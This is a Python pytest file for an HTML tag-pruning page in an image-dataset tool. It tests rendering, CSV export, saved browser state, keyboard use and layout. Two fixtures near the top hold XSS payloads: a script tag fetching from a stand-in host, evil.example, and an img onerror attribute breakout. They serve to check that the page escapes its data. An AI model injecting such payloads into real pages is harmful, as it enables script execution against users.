"""The prune page: what it shows, and what a real browser hands back."""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from bakery.edits import tag_edits
from bakery.pages import prune_page
from bakery.pages.page import Subject
from bakery.settings.prune import Prune
from bakery.tags import pruning
from bakery.tags.evidence import Evidence

NASTY = '<script>fetch("http://evil.example/")</script>'
QUOTED = '"><img src=x onerror="document.title=1">'
IMAGES = [f"{number}.png" for number in range(6)]
FOUND = [
    Evidence("1girl", "general", tuple(IMAGES), 1.0, 0.8),
    Evidence("halo", "general", tuple(IMAGES[:5]), 5 / 6, 0.01, "halo", 2, 2),
    Evidence("pink hair", "general", tuple(IMAGES[:4]), 4 / 6, math.nan, "hair", 2, 2),
    Evidence("smile", "general", tuple(IMAGES[3:]), 0.5, 0.5),
    Evidence("coat", "general", tuple(IMAGES[4:]), 2 / 6, 0.1, None, 1, 2, "coat"),
    Evidence("look, alike", "character", tuple(IMAGES[5:]), 1 / 6, 0.001),
    Evidence(QUOTED, "general", tuple(IMAGES[:1]), 1 / 6, math.nan),
    Evidence("zebra", "general"),
]
OUTFITS = [{"outfit": NASTY, "pictures": 5, "tags": "coat", "proposal": f'"{QUOTED}": ["coat"]'}]
GIVEN = {"zebra": "keep", "halo": "prune"}


def draw(
    folder: Path, by_hand: dict[str, str], found: list[Evidence] = FOUND, **options: Any
) -> str:
    pictures = folder / "images"
    pictures.mkdir(parents=True, exist_ok=True)
    for number, name in enumerate(IMAGES):
        Image.effect_noise((150, 220), 60 + number).convert("RGB").save(pictures / name)
    settings = Prune(class_tokens="1girl", **options)
    return prune_page.draw(
        settings,
        pruning.decide(settings, found, by_hand),
        OUTFITS,
        pictures=pictures,
        images=IMAGES,
        subject=Subject("mirael"),
    )


def test_a_picture_stands_in_the_page_once_however_many_tags_show_it(tmp_path: Path) -> None:
    page = draw(tmp_path, {})
    assert page.count('href="data:image/webp;base64,') == len(IMAGES)
    assert page.count('<use href="#p0"/>') == 4
    assert 'width="65" height="96"' in page


def test_a_picture_that_cannot_be_read_is_left_out(tmp_path: Path) -> None:
    gone = [Evidence("tree", "general", ("gone.png", "0.png"), 1 / 3)]
    assert draw(tmp_path, {}, gone).count("<use ") == 1


@pytest.mark.parametrize("most", [3, 10, 1000])
def test_examples_are_few_and_rare_tags_have_theirs(most: int) -> None:
    of_tags = [[f"{n}.png" for n in range(2000)], ["1999.png"], [f"{n}.png" for n in range(50, 90)]]
    shown = prune_page.examples(of_tags, most)
    assert len({name for some in shown for name in some}) <= most
    assert shown[1] == ["1999.png"]
    assert all(len(some) <= prune_page.EXAMPLES for some in shown)
    assert all(set(some) <= set(mine) for some, mine in zip(shown, of_tags, strict=True))
    assert shown[0]


@pytest.mark.slow
def test_a_large_dataset_makes_a_page_of_bounded_size(tmp_path: Path) -> None:
    """400 pictures of noise, which no codec can make small, and 1200 tags."""
    names = [f"{number}.png" for number in range(400)]
    pictures = tmp_path / "images"
    pictures.mkdir()
    noise = Image.effect_noise((96, 96), 60).convert("RGB")
    for name in names:
        noise.save(pictures / name)
    found = [
        Evidence(f"tag number {n}", "general", tuple(names[n % 390 : n % 390 + 9]), 9 / 400, 0.1)
        for n in range(1200)
    ]
    settings = Prune()
    page = prune_page.draw(
        settings, pruning.decide(settings, found, {}), [], pictures=pictures, images=names,
        subject=Subject("mirael"),
    )  # fmt: skip
    assert page.count('href="data:image/webp;base64,') <= prune_page.MOST
    assert len(page.encode()) < 5_000_000


def test_nothing_in_the_data_can_become_markup(tmp_path: Path) -> None:
    page = draw(tmp_path, {}, trigger=NASTY)
    assert page.count("<script>") == 1
    assert "<img src=x" not in page
    assert "&lt;script&gt;" in page
    assert not re.search(r"<[^>]+\son\w+=", re.sub(r'"[^"]*"', '""', page))
    assert str(tmp_path) not in page


@pytest.fixture
def opened(opened_page: Any, tmp_path: Path) -> Iterator[Any]:
    """The page with two decisions given; every request and message is held against it."""
    file = tmp_path / "prune.html"
    file.write_text(draw(tmp_path, GIVEN), encoding="utf-8")
    with opened_page(file) as (page, asked):
        yield page
    assert {u for u in asked if not u.startswith(("data:", "blob:"))} == {file.as_uri()}


def tag(page: Any, name: str) -> Any:
    return page.locator(f"tr[data-tag={name!r}] .tag")


def written(page: Any) -> str:
    return page.locator("#csv").evaluate("node => node.textContent")


def test_browser_given_decisions_come_back_untouched(opened: Any, tmp_path: Path) -> None:
    assert written(opened) == "tag,decision\nhalo,prune\nzebra,keep\n"
    assert opened.locator("#count").inner_text() == "2"
    with opened.expect_download() as waiting:
        opened.locator("#download").click()
    assert waiting.value.suggested_filename == tag_edits.NAME
    waiting.value.save_as(tmp_path / "tags.csv")
    assert (tmp_path / "tags.csv").read_bytes() == b"tag,decision\nhalo,prune\nzebra,keep\n"
    assert tag_edits.read_decisions(tmp_path / "tags.csv") == GIVEN


def test_browser_mouse(opened: Any, tmp_path: Path, copied: Callable[[Any, Any], str]) -> None:
    page = opened
    smile, halo = tag(page, "smile"), tag(page, "halo")
    assert smile.get_attribute("aria-pressed") == "false"
    smile.click()
    assert smile.get_attribute("aria-pressed") == "true"
    assert "prune" in smile.inner_text()
    assert "smile" in page.locator("#pruned").inner_text()
    tag(page, "pink hair").click()
    assert "pink hair" not in page.locator("#pruned").inner_text()
    tag(page, "look, alike").click()  # dropped before: becomes a caption word
    page.locator(".tag", has_text=QUOTED).click()
    halo.click()
    expected = {
        QUOTED: "prune", "halo": "keep", "look, alike": "keep", "pink hair": "keep",
        "smile": "prune", "zebra": "keep",
    }  # fmt: skip
    text = written(page)
    assert list(csv.reader(io.StringIO(text))) == [
        ["tag", "decision"], *sorted([tag, word] for tag, word in expected.items()),
    ]  # fmt: skip
    (tmp_path / "tags.csv").write_text(text, encoding="utf-8")
    assert tag_edits.read_decisions(tmp_path / "tags.csv") == expected
    assert copied(page, page.locator("#copy")) == text
    # back again: no line is left that was not there, and none is lost that was
    for button in (smile, halo, tag(page, "pink hair")):
        button.click()
    assert "smile" not in written(page)
    assert "halo,prune" in written(page)
    page.locator("tr[data-tag='zebra'] .undo").click()
    page.locator("tr[data-tag='look, alike'] .undo").click()
    assert written(page).count("\n") == 3


def test_browser_a_reload_keeps_unsaved_decisions_until_they_are_discarded(
    opened: Any, with_another_tab: Callable
) -> None:
    page = with_another_tab(opened)
    given = written(page)
    assert not page.locator("#unsaved").is_visible()
    tag(page, "smile").click()
    tag(page, "halo").click()
    decided = written(page)
    page.reload()
    assert written(page) == decided
    note = page.locator("#unsaved span")
    assert note.inner_text() == "2 decisions not saved yet, kept in this browser."
    with page.expect_download():
        page.locator("#download").click()
    assert note.inner_text() == "2 decisions handed over: save the file and run again."
    page.reload()
    assert "handed over" in note.inner_text()
    tag(page, "coat").click()
    assert note.inner_text() == "3 decisions not saved yet, kept in this browser."
    page.locator("#unsaved button").click()
    assert written(page) == given
    page.reload()
    assert written(page) == given


def test_browser_what_it_keeps_is_of_one_result(browser: Any, tmp_path: Path) -> None:
    """Another result of the dataset, or another dataset, starts afresh; nonsense does no harm."""
    context = browser.new_context()
    page = context.new_page()
    for number, place in enumerate(("mirael-1", "mirael-2", "mirael-1")):
        html = draw(tmp_path, {}).replace('data-keep="prune/mirael/"', f'data-keep="x/{place}"')
        file = tmp_path / f"{number}.html"
        file.write_text(html, encoding="utf-8")
        page.goto(file.as_uri())
        pressed = tag(page, "smile").get_attribute("aria-pressed")
        assert pressed == ("true" if number == 2 else "false")
        if not number:
            tag(page, "smile").click()
    keep = """text => localStorage.setItem("lora-bakery/x/mirael-1", text)"""
    page.evaluate(keep, '{"changes": {"smile": 7, "toString": 1}}')
    page.reload()
    assert tag(page, "smile").get_attribute("aria-pressed") == "false"
    page.evaluate(keep, "null")
    page.reload()
    assert not page.locator("#unsaved").is_visible()
    context.close()


def test_browser_keyboard(opened: Any) -> None:
    page = opened
    page.keyboard.press("/")
    page.keyboard.type("PINK_h")
    assert page.locator("#tags tbody tr:visible").count() == 1
    assert page.locator("#found").inner_text() == "1 of 8 tags"
    page.keyboard.press("Control+a")
    page.keyboard.press("Delete")
    page.locator("[name=order][value=count]").focus()
    page.keyboard.press("Tab")

    def at() -> str:
        return page.evaluate("document.activeElement.closest('tr')?.dataset.tag")

    assert at() == "halo"  # the class token 1girl cannot be decided about
    page.keyboard.press("ArrowDown")
    assert at() == "pink hair"
    page.keyboard.press("Enter")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Space")
    assert at() == "smile"
    assert "pink hair,keep\nsmile,prune\n" in written(page)
    page.keyboard.press("Delete")
    assert "smile" not in written(page)
    page.keyboard.press("End")
    assert at() == "zebra"
    page.keyboard.press("Home")
    page.keyboard.press("ArrowUp")  # the edge
    assert at() == "halo"
    page.keyboard.press("Backspace")
    assert written(page) == "tag,decision\npink hair,keep\nzebra,keep\n"
    assert page.locator(".tag[tabindex='0']").count() == 1


def test_browser_show_and_order(opened: Any) -> None:
    page = opened

    def shown() -> list[str]:
        return page.locator("#tags tbody tr:visible .name").all_inner_texts()

    page.check("[name=show][value=prune]")
    assert shown() == ["halo", "pink hair"]
    page.check("[name=show][value=hand]")
    assert shown() == ["halo", "zebra"]
    page.check("[name=show][value=all]")
    page.check("[name=order][value=lift]")
    assert shown()[:2] == ["look, alike", "halo"]
    page.check("[name=order][value=tag]")
    assert shown()[-2:] == ["smile", "zebra"]
    page.check("[name=order][value=count]")
    assert shown() == [one.tag for one in FOUND]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1200])
def test_browser_fits_the_window_and_shows_pictures(
    opened: Any, browser: Any, width: int, scheme: str
) -> None:
    page = browser.new_page(viewport={"width": width, "height": 800}, color_scheme=scheme)
    page.goto(opened.url)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    paper, ink = page.evaluate(
        "(s => [s.backgroundColor, s.color])(getComputedStyle(document.body))"
    )
    lightness = [sum(map(int, re.findall(r"\d+", colour)[:3])) / 765 for colour in (paper, ink)]
    assert abs(lightness[0] - lightness[1]) > 0.7
    shot = Image.open(io.BytesIO(page.locator(".example").first.screenshot())).convert("L")
    darkest, lightest = shot.crop((12, 12, 36, 36)).getextrema()
    assert lightest - darkest > 40, "the noise of the picture, not an empty place"
    page.close()


def test_browser_without_scripts_the_table_is_there(opened: Any, browser: Any) -> None:
    page = browser.new_page(java_script_enabled=False)
    page.goto(opened.url)
    assert page.locator("#tags tbody tr:visible").count() == len(FOUND)
    assert page.locator("#pruned").inner_text().split("\n") == ["halo", "pink hair"]
    page.close()
